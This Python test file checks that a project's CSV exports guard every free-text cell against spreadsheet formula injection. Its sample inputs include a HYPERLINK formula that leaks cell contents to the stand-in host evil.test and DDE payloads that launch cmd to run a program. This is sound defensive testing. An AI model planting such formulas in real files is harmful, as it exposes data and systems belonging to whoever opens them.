"""CSV exports are safe to open in a spreadsheet: no text cell is read as a formula (OWASP's CSV injection)."""

from __future__ import annotations

import csv
import functools
import io
import re
from pathlib import Path
from typing import Any

import pytest
from pydantic import BaseModel

from conftest import ROOT
from macros.factbase import FactBase, load
from macros.schema import KINDS

FB = load(ROOT / "data", ROOT)

#: Cells a spreadsheet would run, or that start like one.
HOSTILE = [
    '=HYPERLINK("http://evil.test/?leak="&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1\n=2+2",
    "\uff1dHYPERLINK(\"http://evil.test/\")",
    "'=already guarded?",
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


@functools.cache
def _schema(model: type[BaseModel]) -> dict[str, Any]:
    """A model's JSON Schema, made once per model (each is asked for every field of every record)."""
    return model.model_json_schema(by_alias=True)


def _free_text(model: type[BaseModel], name: str) -> bool:
    """A field of free text (not an id, a date, an address or a choice), from the model's JSON Schema."""
    prop = _schema(model)["properties"][model.model_fields[name].alias or name]
    options = [p for p in prop.get("anyOf", [prop]) if p.get("type") != "null"]
    inner = options[0] if options else {}
    if inner.get("type") == "array":
        inner = inner.get("items", {})
    return inner.get("type") == "string" and not {"pattern", "enum", "const", "format"} & set(inner)


class Rotation:
    def __init__(self) -> None:
        self.n = 0
        self.fields: set[str] = set()

    def next(self, where: str) -> str:
        self.fields.add(where)
        self.n += 1
        return HOSTILE[self.n % len(HOSTILE)]


def hostile(item: BaseModel, rotation: Rotation, where: str) -> BaseModel:
    """A copy of a record (nested records too) with a hostile string in every free-text field and list item."""
    updates: dict[str, Any] = {}
    for name in type(item).model_fields:
        value = getattr(item, name)
        path = f"{where}.{name}"
        if isinstance(value, BaseModel):
            updates[name] = hostile(value, rotation, path)
        elif isinstance(value, list) and value and isinstance(value[0], BaseModel):
            updates[name] = [hostile(v, rotation, path) for v in value]
        elif _free_text(type(item), name):
            if isinstance(value, list):
                updates[name] = [rotation.next(path) for _ in value] or [rotation.next(path)]
            else:
                updates[name] = rotation.next(path)
    return item.model_copy(update=updates)


@pytest.fixture(scope="module")
def hostile_exports(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Rotation]:
    """The real fact base with every free-text field of every record hostile, exported as the build exports it."""
    from macros.exports import write_exports

    rotation = Rotation()
    kinds = {kind: {i: hostile(r, rotation, kind) for i, r in getattr(FB, kind).items()} for kind in KINDS}
    fb = FactBase(**kinds, where=FB.where, order=FB.order)
    site = tmp_path_factory.mktemp("hostile")
    write_exports(fb, site, "0" * 40)
    return site / "data", rotation


def test_every_free_text_field_was_made_hostile(hostile_exports: tuple[Path, Rotation]) -> None:
    """The corpus reaches every free-text field of every kind, nested records and lists included."""
    _, rotation = hostile_exports
    expected = set()
    for kind, model in KINDS.items():
        for name in model.model_fields:
            if _free_text(model, name):
                expected.add(f"{kind}.{name}")
    assert expected <= rotation.fields
    assert {"sources.chapters.title", "sources.chapters.authors", "actors.native.text", "positions.stances.stance",
            "membership.statuses.note"} <= rotation.fields


def test_no_csv_cell_starts_like_a_formula(hostile_exports: tuple[Path, Rotation]) -> None:
    """No cell of any CSV export starts with = + - @ tab or CR (or their full-width forms), unless it is a number."""
    folder, _ = hostile_exports
    files = sorted(folder.glob("*.csv"))
    assert files
    guarded = 0
    for path in files:
        for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")):
            for value in row:
                assert not (value[:1] in FORMULA_START and not NUMBER.fullmatch(value)), f"{path.name}: {value!r}"
                guarded += value.startswith("'")
    assert guarded > 1000


@pytest.mark.parametrize("value,cell", [
    ('=HYPERLINK("http://evil.test/?leak="&A1,"x")', '\'=HYPERLINK("http://evil.test/?leak="&A1,"x")'),
    ("+1+1", "'+1+1"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    ("-2+3", "'-2+3"),
    ("\uff1d1+1", "'\uff1d1+1"),
    ("-12.5", "-12.5"),
    ("+3", "+3"),
    ("-1e5", "-1e5"),
    ("'=x", "''=x"),
    ("'tis", "'tis"),
    ("plain text", "plain text"),
    ("", ""),
], ids=lambda v: repr(v)[:24])
def test_safe_text_guards_formulas_and_leaves_numbers(value: str, cell: str) -> None:
    """A formula-like text gets a leading ', a real number stays a number, and the guard can be undone exactly;
    a text written into a CSV cell gets the same guard."""
    from macros import exports
    from macros.exports import safe_text, unsafe_text

    assert safe_text(value) == cell
    assert unsafe_text(safe_text(value)) == value
    assert exports.cell(value) == cell


def test_numbers_stay_numbers(tmp_path: Path) -> None:
    """A negative figure is written as a plain number, not guarded."""
    from macros.exports import write_exports

    figure = next(iter(FB.figures.values()))
    kinds = {kind: dict(getattr(FB, kind)) for kind in KINDS}
    kinds["figures"][figure.id] = figure.model_copy(update={"value": -12.5})
    write_exports(FactBase(**kinds, where=FB.where, order=FB.order), tmp_path, "0" * 40)
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO((tmp_path / "data" / "figures.csv").read_text(encoding="utf-8")))}
    assert rows[figure.id]["value"] == "-12.5"
